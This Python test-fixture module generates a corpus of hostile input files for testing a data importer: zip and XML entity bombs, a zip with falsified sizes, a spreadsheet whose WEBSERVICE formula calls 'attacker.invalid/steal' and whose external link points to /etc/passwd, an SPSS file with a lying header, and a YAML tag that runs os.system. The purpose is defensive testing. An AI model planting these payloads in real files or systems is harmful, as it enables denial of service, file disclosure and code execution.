"""The hostile corpus: files that break the way real exports and attackers break them.

Each function writes one file into a folder the test owns (a tmp dir): big and bomb-like
files are generated at test time and never committed.
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Sequence
from pathlib import Path
from xml.sax.saxutils import escape

MIB = 1024 * 1024

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "{extra}</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="{sheet}" sheetId="1" r:id="rId1"/></sheets>{extra}</workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>{extra}</Relationships>'
)
_SHEET_OPEN = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_CLOSE = "</sheetData></worksheet>"

EXTERNAL_TARGET = "file:///etc/passwd"
"""Where the external link of `external_links_xlsx` points; it must never be opened."""

FORMULA_TEXT = 'WEBSERVICE("http://attacker.invalid/steal")'
"""The formula of `external_links_xlsx`; only its cached value may ever be read."""


def _column_letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _cell(ref: str, value: object) -> str:
    if value is None or value == "":
        return ""
    if isinstance(value, dict):  # {"formula": ..., "cached": ...}
        cached = value["cached"]
        kind = "" if isinstance(cached, int | float) else ' t="str"'
        return (
            f'<c r="{ref}"{kind}><f>{escape(value["formula"])}</f><v>{escape(str(cached))}</v></c>'
        )
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'


def sheet_xml(rows: Sequence[Sequence[object]], doctype: str = "") -> str:
    """A worksheet part with inline strings, numbers and formulas with cached values."""
    body = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(_cell(f"{_column_letter(c)}{r}", v) for c, v in enumerate(row))
        body.append(f'<row r="{r}">{cells}</row>')
    return _SHEET_OPEN.format(doctype=doctype) + "".join(body) + _SHEET_CLOSE


def write_xlsx(
    path: Path,
    sheet: str,
    *,
    sheet_part: str,
    extra_parts: dict[str, str] | None = None,
    workbook_extra: str = "",
    rels_extra: str = "",
    types_extra: str = "",
) -> Path:
    """A minimal but valid .xlsx from hand-written parts (so each can be made hostile)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(extra=types_extra))
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK.format(sheet=sheet, extra=workbook_extra))
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS.format(extra=rels_extra))
        archive.writestr("xl/worksheets/sheet1.xml", sheet_part)
        for name, text in (extra_parts or {}).items():
            archive.writestr(name, text)
    return path


def zip_bomb_xlsx(path: Path, inflated_mib: int = 64) -> Path:
    """A workbook whose sheet part inflates from ~250 KiB to `inflated_mib` MiB of blanks."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(extra=""))
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK.format(sheet="Data", extra=""))
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS.format(extra=""))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(_SHEET_OPEN.format(doctype="").encode())
            block = b" " * MIB
            for _ in range(inflated_mib):
                part.write(block)
            part.write(_SHEET_CLOSE.encode())
    return path


def lying_zip_xlsx(path: Path, inflated_mib: int = 64) -> Path:
    """A bomb whose central directory claims each part is tiny (sizes patched after writing)."""
    zip_bomb_xlsx(path, inflated_mib)
    data = bytearray(path.read_bytes())
    start = data.rfind(b"PK\x05\x06")
    (count,) = struct.unpack_from("<H", data, start + 10)
    (offset,) = struct.unpack_from("<I", data, start + 16)
    for _ in range(count):
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, offset + 28)
        name = bytes(data[offset + 46 : offset + 46 + name_len])
        if name == b"xl/worksheets/sheet1.xml" and extra_len == 0:
            struct.pack_into("<I", data, offset + 24, 1000)  # uncompressed size
        offset += 46 + name_len + extra_len + comment_len
    path.write_bytes(bytes(data))
    return path


def billion_laughs_xlsx(path: Path, rows: Sequence[Sequence[object]]) -> Path:
    """A workbook whose sheet part declares nested entities that expand to ~3 GB."""
    entities = '<!ENTITY lol0 "lololololololololololololololololololol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    doctype = f"<!DOCTYPE worksheet [{entities}]>"
    bomb_rows = [list(rows[0]), ["&lol9;", *rows[1][1:]]]
    part = sheet_xml(bomb_rows, doctype).replace("&amp;lol9;", "&lol9;")
    return write_xlsx(path, "Data", sheet_part=part)


def external_links_xlsx(path: Path, rows: Sequence[Sequence[object]], column: int) -> Path:
    """A workbook where `column` holds formulas (with cached values) and one external link.

    Every data cell of `column` becomes `=WEBSERVICE(...)` or a reference into the external
    workbook `[1]`, with the original value as Excel's cached result.
    """
    formula_rows: list[list[object]] = [list(rows[0])]
    for index, row in enumerate(rows[1:]):
        changed = list(row)
        formula = FORMULA_TEXT if index % 2 else "[1]Sheet1!$A$1"
        if changed[column] not in (None, ""):
            changed[column] = {"formula": formula, "cached": changed[column]}
        formula_rows.append(changed)
    link_part = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        "</externalBook></externalLink>"
    )
    link_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'externalLinkPath" Target="{EXTERNAL_TARGET}"/></Relationships>'
    )
    return write_xlsx(
        path,
        "Data",
        sheet_part=sheet_xml(formula_rows),
        extra_parts={
            "xl/externalLinks/externalLink1.xml": link_part,
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
        },
        workbook_extra='<externalReferences><externalReference r:id="rId9"/></externalReferences>',
        rels_extra=(
            '<Relationship Id="rId9" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'externalLink" Target="externalLinks/externalLink1.xml"/>'
        ),
        types_extra=(
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
        ),
    )


def lying_sav(path: Path, declared_cases: int = 100_000_000) -> Path:
    """A valid 3-case .sav whose header claims `declared_cases` cases."""
    import pandas as pd
    import pyreadstat

    frame = pd.DataFrame({"patnr": ["RD1", "RD2", "RD3"], "leeftijd": [50.0, 60.0, 70.0]})
    pyreadstat.write_sav(frame, str(path))
    data = bytearray(path.read_bytes())
    (layout,) = struct.unpack_from("<i", data, 64)
    endian = "<" if layout in (2, 3) else ">"
    struct.pack_into(f"{endian}i", data, 80, declared_cases)
    path.write_bytes(bytes(data))
    return path


def long_line_csv(path: Path, header: str, line_mib: int = 100) -> Path:
    """A CSV whose first data line is `line_mib` MiB long (written in 1 MiB blocks)."""
    block = b"x" * MIB
    with path.open("wb") as sink:
        sink.write(header.encode() + b"\n")
        for _ in range(line_mib):
            sink.write(block)
        sink.write(b"\n")
    return path


def nul_csv(path: Path, text: str) -> Path:
    """The CSV text with a NUL byte in the middle of its second line."""
    lines = text.encode().split(b"\n")
    lines[1] = lines[1][:5] + b"\x00" + lines[1][5:]
    path.write_bytes(b"\n".join(lines))
    return path


def mixed_encoding_csv(path: Path, utf8_text: str, cp1252_line: str) -> Path:
    """UTF-8 text with one more line appended in cp1252 (two exports pasted together)."""
    data = utf8_text.encode("utf-8")
    if not data.endswith(b"\n"):
        data += b"\n"
    path.write_bytes(data + cp1252_line.encode("cp1252") + b"\n")
    return path


def yaml_object_tag_mapping(path: Path, marker: Path) -> Path:
    """A mapping file whose tag would run `touch <marker>` if YAML objects were constructed."""
    path.write_text(
        f"center_id: {path.stem}\n"
        f"description: !!python/object/apply:os.system ['touch {marker}']\n"
        "tables: []\n",
        encoding="utf-8",
    )
    return path
